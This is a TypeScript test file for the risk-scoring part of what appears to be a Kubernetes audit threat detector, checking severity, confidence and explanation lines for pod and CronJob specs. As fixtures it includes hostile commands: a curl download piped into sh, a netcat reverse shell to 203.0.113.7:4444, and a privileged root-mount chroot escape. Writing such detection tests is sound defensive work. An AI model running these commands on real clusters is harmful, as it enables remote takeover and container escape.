import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { activityOf, readingOf } from '../facts/testing.ts';
import { assessAll, INDICATORS } from '../indicator/registry.ts';
import { blank, bodyUnseen, by, cronJob, mounting, partOf, pod, runs, script, secured } from '../indicator/testing.ts';
import type { Activity } from '../model/activity.ts';
import type { Facts } from '../model/facts.ts';
import { atLeast, type Severity } from '../model/finding.ts';
import type { Outcome } from '../model/indicator.ts';
import { seenValue } from '../model/seen.ts';
import { type Assessment, assess, severityByRisk } from './score.ts';

/** The verdict on facts, with actor and request taken from them. */
const judged = (facts: Facts, parts: Partial<Activity> = {}): Assessment => {
  const activity = activityOf({
    actor: seenValue(facts.actor) ?? activityOf().actor,
    request: seenValue(facts.request) ?? activityOf().request,
    ...parts,
  });
  return assess(activity, [{ reading: null, facts, outcomes: assessAll(facts) }]);
};
const severityOf = (facts: Facts): Severity => judged(facts).severity;

const image = 'alpine:3.20';
const privileged = { containers: [{ name: 'main', image, securityContext: { privileged: true } }] };

/** These paths of the node, all to read. */
const mountsOf = (paths: readonly string[]): Facts =>
  pod({
    volumes: paths.map((path, at) => ({ name: `v${at}`, hostPath: { path } })),
    containers: [
      {
        name: 'a',
        image,
        volumeMounts: paths.map((path, at) => ({ name: `v${at}`, mountPath: `/host${path}`, readOnly: true })),
      },
    ],
  });

const SEVERITIES: Record<string, [facts: Facts, severity: Severity]> = {
  'an ordinary CronJob': [blank, 'info'],
  'a bare image with shell text': [
    cronJob({ containers: [{ name: 'a', image, command: ['sh', '-c', 'date'] }] }),
    'info',
  ],
  'a download and nothing more': [script('curl -fsS https://example.com/health'), 'info'],
  'a download into an interpreter': [script('curl -s http://203.0.113.7/x | sh'), 'high'],
  'the logs of the node, for a shipper': [
    mountsOf(['/var/log', '/etc/machine-id', '/var/lib/docker/containers']),
    'low',
  ],
  'the configuration of the node, to read': [mountsOf(['/etc']), 'low'],
  'the logs of the node and its configuration': [mountsOf(['/var/log', '/etc']), 'medium'],
  'the network of the node, with a floating tag and shell text': [
    pod({ hostNetwork: true, containers: [{ name: 'a', image: 'acme/aws:latest', command: ['sh', '-c', 'date'] }] }),
    'low',
  ],
  'the network of the node, in a container that waits': [
    pod({ hostNetwork: true, containers: [{ name: 'a', image: 'alpine:latest', command: ['sleep', 'infinity'] }] }),
    'medium',
  ],
  'the network of the node, for an image of which nothing is known': [
    pod({ hostNetwork: true, containers: [{ name: 'a', image: 'images.harbour-tools.io/sync:2' }] }),
    'medium',
  ],
  'a privileged container and nothing more': [secured({ privileged: true }), 'medium'],
  'every power over the node, and no act': [
    pod({ ...mounting('/'), hostPID: true, hostNetwork: true, ...privileged }),
    'medium',
  ],
  'privileged, the root of the node, and a chroot into it': [
    cronJob({
      volumes: [{ name: 'node', hostPath: { path: '/' } }],
      containers: [
        {
          name: 'a',
          image,
          command: ['chroot', '/host'],
          volumeMounts: [{ name: 'node', mountPath: '/host' }],
          securityContext: { privileged: true },
        },
      ],
    }),
    'critical',
  ],
  'a download into an interpreter in a privileged container': [
    cronJob({
      containers: [
        {
          name: 'a',
          image,
          command: ['sh', '-c', 'curl http://203.0.113.7/x | sh'],
          securityContext: { privileged: true },
        },
      ],
    }),
    'critical',
  ],
  'a call-back without any power': [runs('nc', '203.0.113.7', '4444', '-e', '/bin/sh'), 'high'],
  'one kernel setting of the node': [
    cronJob({
      hostPID: true,
      containers: [
        {
          name: 'a',
          image,
          command: ['nsenter', '-t', '1', '-m', '--', 'sysctl', '-w', 'vm.max_map_count=262144'],
          securityContext: { privileged: true },
        },
      ],
    }),
    'medium',
  ],
  'nothing seen of the body': [bodyUnseen('level-metadata'), 'info'],
  'a body withheld because of its size': [bodyUnseen('truncated'), 'low'],
};
for (const [name, [facts, severity]] of Object.entries(SEVERITIES)) {
  test(`${name}: ${severity}`, () => {
    const { breakdown, hits } = judged(facts);
    assert.equal(
      severityOf(facts),
      severity,
      JSON.stringify({ breakdown, hits: hits.map(({ indicator }) => indicator.id) }),
    );
  });
}

const anonymous = {
  actor: { ...activityOf().actor, username: 'system:anonymous', groups: [], kind: 'anonymous' as const },
};
const refused = { request: { verb: 'create', outcome: 'refused' as const, code: 403 } };
const malicious = { containers: [{ name: 'a', image, command: ['sh', '-c', 'curl http://203.0.113.7/x | sh'] }] };

test('the same body, refused, is as severe from a known actor and low from an anonymous one', () => {
  assert.equal(severityOf(cronJob(malicious)), 'high');
  assert.equal(severityOf(cronJob(malicious, refused)), 'high');
  const verdict = judged(cronJob(malicious, { ...anonymous, ...refused }));
  assert.equal(verdict.severity, 'low');
  assert.equal(verdict.risk, 29);
  assert.match(verdict.breakdown.severity, /never more than low/);
  assert.equal(severityOf(by({ ...anonymous, ...refused })), 'low');
});

test('an accepted write of an anonymous user is high, whatever it holds', () => {
  assert.equal(severityOf(by(anonymous)), 'high');
});

test('an authored write without any hit is info, with an empty sum', () => {
  const { risk, breakdown, hits, severity } = judged(blank);
  assert.deepEqual({ risk, severity, hits, lines: breakdown.risk }, { risk: 0, severity: 'info', hits: [], lines: [] });
  assert.equal(breakdown.severity, 'info: risk 0 is below 10');
});

test('the printed lines name each reason and each cap', () => {
  const { breakdown, risk } = judged(pod({ ...mounting('/'), hostPID: true, ...privileged }));
  assert.ok(breakdown.risk.some(({ reason }) => reason === 'Privileged container (privilege.privileged)'));
  assert.ok(
    breakdown.risk.some(
      ({ reason, points }) => reason === 'power over the node count at most 45 together' && points < 0,
    ),
  );
  assert.equal(breakdown.severity, `medium: risk ${risk} is at least 30`);
});

test('the worse reading wins, and of equals the first', () => {
  const quiet = { reading: readingOf({ kind: 'Pod' }), facts: blank, outcomes: assessAll(blank) };
  const facts = cronJob(malicious);
  const loud = { reading: readingOf({ kind: 'Job' }), facts, outcomes: assessAll(facts) };
  for (const order of [
    [quiet, loud],
    [loud, quiet],
  ]) {
    assert.equal(assess(activityOf(), order).reading, loud.reading);
  }
  assert.equal(assess(activityOf(), [quiet, { ...quiet, reading: loud.reading }]).reading, quiet.reading);
});

test('what could not be told is listed with its reason', () => {
  const { unassessed } = judged(bodyUnseen('level-metadata'));
  assert.ok(unassessed.some(({ id, because }) => id === 'command.reverse-shell' && because === 'level-metadata'));
  assert.deepEqual(judged(blank).unassessed, [
    { id: 'identity.strong-service-account', because: 'rights-unknown' },
    ...['baseline.new-author', 'baseline.new-origin', 'baseline.new-content'].map((id) => ({
      id,
      because: 'no-baseline',
    })),
  ]);
});

test('confidence falls with what was not seen, and says why', () => {
  const whole = judged(blank);
  assert.equal(whole.confidence, 0.95);
  assert.equal(whole.breakdown.confidence, '0.95');
  const part = judged(partOf({ containers: [] }));
  assert.equal(part.confidence, 0.8);
  assert.equal(part.breakdown.confidence, '0.95, less 0.15 because the body was cut: 0.80');
  assert.equal(judged(bodyUnseen('level-metadata')).confidence, 0.5);
  const unknown = judged(by({ request: { verb: 'create', outcome: 'unknown', code: null } }));
  assert.equal(unknown.confidence, 0.85);
  assert.match(unknown.breakdown.confidence, /whether the request was accepted/);
});

const anyHits = fc.subarray([...INDICATORS]);
const outcomesOf = (hits: readonly (typeof INDICATORS)[number][]): readonly Outcome[] =>
  hits.map((indicator) => ({ kind: 'hit', indicator, evidence: [{ says: 'It.', at: '', value: 'x' }] }));
const verdictOn = (hits: readonly (typeof INDICATORS)[number][], parts: Partial<Activity> = {}): Assessment =>
  assess(activityOf(parts), [{ reading: null, facts: blank, outcomes: outcomesOf(hits) }]);

test('more evidence never lowers risk or severity', () => {
  fc.assert(
    fc.property(anyHits, anyHits, fc.boolean(), (some, others, stranger) => {
      const parts = stranger ? { ...anonymous, ...refused } : {};
      const less = verdictOn(some, parts);
      const more = verdictOn([...new Set([...some, ...others])], parts);
      assert.ok(more.risk >= less.risk);
      assert.ok(atLeast(more.severity, less.severity));
    }),
  );
});

test('the printed lines add up to the risk, which lies between 0 and 100', () => {
  fc.assert(
    fc.property(anyHits, (hits) => {
      const { risk, breakdown, severity } = verdictOn(hits);
      assert.equal(
        breakdown.risk.reduce((sum, { points }) => sum + points, 0),
        risk,
      );
      assert.ok(Number.isInteger(risk) && risk >= 0 && risk <= 100);
      assert.equal(severity, severityByRisk(risk));
    }),
  );
});

test('the order of the outcomes changes nothing', () => {
  fc.assert(
    fc.property(fc.shuffledSubarray([...INDICATORS]), (hits) => {
      const sorted = INDICATORS.filter((indicator) => hits.includes(indicator));
      assert.deepEqual(verdictOn(hits).breakdown, verdictOn(sorted).breakdown);
    }),
  );
});

test('without any reading there is nothing to judge', () => {
  assert.throws(() => assess(activityOf(), []), /at least one reading/);
});
